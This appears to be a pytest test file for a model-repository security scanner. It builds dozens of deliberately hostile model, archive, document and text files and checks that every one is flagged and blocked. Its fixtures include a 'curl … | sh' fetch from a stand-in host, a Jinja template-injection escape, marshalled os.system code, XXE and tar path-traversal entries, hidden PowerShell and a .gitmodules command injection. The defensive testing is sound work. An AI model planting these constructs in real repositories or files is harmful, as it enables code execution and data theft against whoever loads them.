"""One repository whose every file is hostile in a way of its own: one report, all of them in it, within the budget."""

from __future__ import annotations

import gzip
import io
import json
import marshal
import struct
import zipfile
from base64 import b64encode

import pytest

from tests.e2e.hubs import model_of
from tests.e2e.test_checkpoints import HOSTILE
from tests.formats import writers_containers as w
from tests.formats import writers_flatbuffer as flat
from tests.formats import writers_gguf as gguf
from tests.formats import writers_objects as objects
from tests.formats import writers_onnx as onnx
from tests.formats import writers_safetensors as safetensors
from tests.formats import writers_tensorflow as tensorflow
from tests.formats.writers_hdf5 import H5, external, fixed_text
from tests.formats.writers_protobuf import blob
from tests.loopback import LoopbackHub
from trustaudit.finding import Severity
from trustaudit.report.as_html import as_html
from trustaudit.report.as_table import as_table
from trustaudit.report.model import Document
from trustaudit.report.style import Style
from trustaudit.settings import Settings

BAD = w.call()
_ESCAPE = "{{ cycler.__init__.__globals__.os.popen('true').read() }}"
_FETCH = "curl http://collect.example.invalid/a | sh"
_CODE = b64encode(marshal.dumps(compile("__import__('os').system('true')", "<lambda>", "eval"))).decode()
_LAMBDA = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": [_CODE, None, None]}}
_ENTITY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'


def _zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _hdf5(*messages: tuple[int, bytes]) -> bytes:
    h5 = H5(2)
    return h5.build(h5.header(*messages))


def _onnx(*initializers: bytes, nodes: tuple[bytes, ...] = ()) -> bytes:
    return onnx.model(onnx.graph([onnx.node("MatMul"), *nodes], list(initializers)))


def _writes(place: str) -> bytes:
    where = tensorflow.const("where", place)
    return tensorflow.graph(where, tensorflow.node("w", "WriteFile", "where", "where"))


def _gguf(template: str) -> gguf.Gguf:
    return gguf.Gguf().string("general.architecture", "llama").string("tokenizer.chat_template", template)


def _behind_the_tensors(payload: bytes) -> bytes:
    model = flat.Flat(b"TFL3")
    data = model._put(struct.pack("<I", 400) + bytes(range(200)) * 2)
    return model.finish(model.table({4: model.vector([model.table({}), model.table({0: data})])})) + payload


_TWICE = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'

FORMATS: dict[str, bytes] = {
    "keras/lambda.keras": _zipped({"config.json": json.dumps(_LAMBDA).encode(), "metadata.json": b"{}"}),
    "keras/module.keras": _zipped(
        {"config.json": b'{"module": "os", "class_name": "system", "config": {}}', "metadata.json": b"{}"}
    ),
    "keras/lambda.h5": _hdf5((12, fixed_text("model_config", json.dumps(_LAMBDA).encode()))),
    "keras/elsewhere.h5": _hdf5((6, external("kernel:0", "/etc/hostname"))),
    "tensorflow/saved_model.pb": tensorflow.saved_model(tensorflow.meta_graph(_writes("/home/user/.bashrc"))),
    "tensorflow/frozen.pb": _writes("../../run.py"),
    "tensorflow/weights.bin": _writes("~/.profile"),
    "tensorflow/assets/saved_model.pb": tensorflow.saved_model(
        tensorflow.meta_graph(tensorflow.graph(tensorflow.node("r", "Relu")), assets=("../../etc/hostname",))
    ),
    "tflite/flex.tflite": flat.tflite(["FlexReadFile"]),
    "tflite/behind.tflite": _behind_the_tensors(BAD),
    "onnx/outside.onnx": _onnx(onnx.external("../../../etc/hostname")),
    "onnx/python.onnx": _onnx(nodes=(onnx.node("PyOp", domain="ai.onnx.contrib"),)),
    "gguf/template.gguf": _gguf(_ESCAPE).build(),
    "gguf/twice.gguf": _gguf("{{ a }}").string("tokenizer.chat_template", "{{ b }}").build(),
    "gguf/length.gguf": b"GGUF" + struct.pack("<IQQQ", 3, 0, 1, 1 << 62) + bytes(100),
    "gguf/program.gguf": b"\x7fELF\x02\x01\x01" + bytes(300),
    "safetensors/twice.safetensors": safetensors.with_header(_TWICE, bytes(4)),
    "safetensors/behind.safetensors": safetensors.honest() + BAD,
    "safetensors/model.safetensors.index.json": json.dumps({"weight_map": {"a": "../../x.bin"}}).encode(),
    "torch/script.pt": _zipped(
        {
            "m/constants.pkl": w.EMPTY_DICT,
            "m/data.pkl": w.EMPTY_DICT,
            "m/code/__torch__.py": b'def f(x):\n  y = torch.from_file("/etc/hostname", False, 10)\n',
        }
    ),
    "torch/package.pt": _zipped(
        {
            "p/.data/python_version": b"3.11",
            "p/.data/extern_modules": b"os",
            "p/m/x.py": f"import os\nos.system('{_FETCH}')\n".encode(),
            "p/m/m.pkl": w.EMPTY_DICT,
        }
    ),
    "torch/compiled.pt2": _zipped({"a/archive_format": b"pt2", "a/data/aotinductor/m/x.so": b"\x7fELF" + bytes(200)}),
    "torch/lua.t7": objects.lua_table(1, (objects.lua_string("f"), objects.lua_function(2))),
    "nemo/hydra.nemo": w.tar({"model_config.yaml": b"m:\n  _target_: os.system\n  command: 'true'\n"}),
    "archives/slip.tar": w.tar({"../../../etc/cron.d/x": b"* * * * * root true\n"}),
    "archives/program.tar.gz": gzip.compress(w.tar({"sub/model.bin": b"\x7fELF\x02\x01\x01" + bytes(300)})),
    "skops/call.skops": w.skops(
        {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "protocol": 2}
    ),
    "r/promise.rds": objects.XDR_3 + objects.r_list(objects.r_promise()),
    "flax/flax_model.msgpack": objects.packed({"p": objects.Ext(1, objects.packed([[1], "|O", BAD]))}),
    "xml/entity.pmml": b'<?xml version="1.0"?>' + _ENTITY + b'<PMML version="4.4"></PMML>',
    "xml/openvino_model.xml": b'<?xml version="1.0"?><net name="m" version="11"><layers>'
    b'<layer id="2" name="c" type="Custom" version="extension"><data library="/opt/x.so"/></layer></layers></net>',
    "coreml/Linked.mlmodel": b"\x08\x06" + blob(556, blob(1, blob(1, blob(1, "../../other.mlmodelc")))),
    "paddle/inference.pdmodel": blob(1, blob(4, blob(3, "py_func"))),
    "programs/model.safetensors": w.pe(),
    "programs/weights.dat": b"\xcf\xfa\xed\xfe" + bytes(300),
    "programs/setup.exe": w.pe() + b"1",
    "programs/hook.pth": b"import os; print()\n",
    "programs/start.bat": b"@echo off\r\npowershell -enc SQBFAFgA -WindowStyle Hidden\r\n",
    "programs/run.sh": f"#!/bin/sh\n{_FETCH}\n".encode(),
    "documents/paper.pdf": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(true)>>>>endobj\n%%EOF",
    "documents/logo.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('//collect.example.invalid')</script></svg>",
    "documents/macros.docx": _zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": bytes(40)}),
    "text/chat_template.jinja": _ESCAPE.replace("cycler", "namespace").encode(),
    "text/hparams.yaml": b'a: !!python/object/apply:os.system ["true"]\n',
    "text/modeling.py": f"import os\nos.system('{_FETCH}')\n".encode(),
    "text/requirements.txt": b"transfomers\n--extra-index-url http://packages.example.invalid/simple\n",
    "text/.gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = --upload-pack=true\n',
}


@pytest.mark.slow
def test_every_file_of_a_hostile_repository_has_its_finding(loopback_hub: LoopbackHub) -> None:
    loopback_hub.quotas.unlimited()
    pickles = {f"pickles/{n:02}/{name}": data for n, (name, data) in enumerate(HOSTILE.values())}
    files = {**FORMATS, **pickles}
    assert len(files) >= 80
    report = model_of(loopback_hub, dict(files))
    assert (report.verdict, report.score) == ("block", 0)
    told = {f.location.path for f in report.findings if f.severity.rank >= Severity.MEDIUM.rank}
    assert sorted(files.keys() - told) == []
    assert report.cost.bytes <= Settings().audit_bytes
    assert not any(check.outcome == "error" for check in report.checks)
    document = Document.model_validate(
        {"tool": {"name": "t", "version": "1", "ruleset": "1"}, "policy": {"name": "p", "digest": "d"}}
        | {"reports": [report], "summary": {"pass": 0, "review": 0, "block": 1, "incomplete": 0}}
    )
    page, table = as_html(document), as_table(document, Style())
    assert [path for path in files if path not in page] == []
    assert "BLOCK" in table
    assert len(table.splitlines()) < 400


@pytest.mark.parametrize("name", FORMATS)
def test_each_alone_is_told_with_its_place(loopback_hub: LoopbackHub, name: str) -> None:
    report = model_of(loopback_hub, {name: FORMATS[name]})
    loud = [f for f in report.findings if f.location.path == name and f.severity.rank >= Severity.MEDIUM.rank]
    assert report.verdict in ("block", "review")
    assert any(finding.message and finding.evidence and finding.remediation for finding in loud)
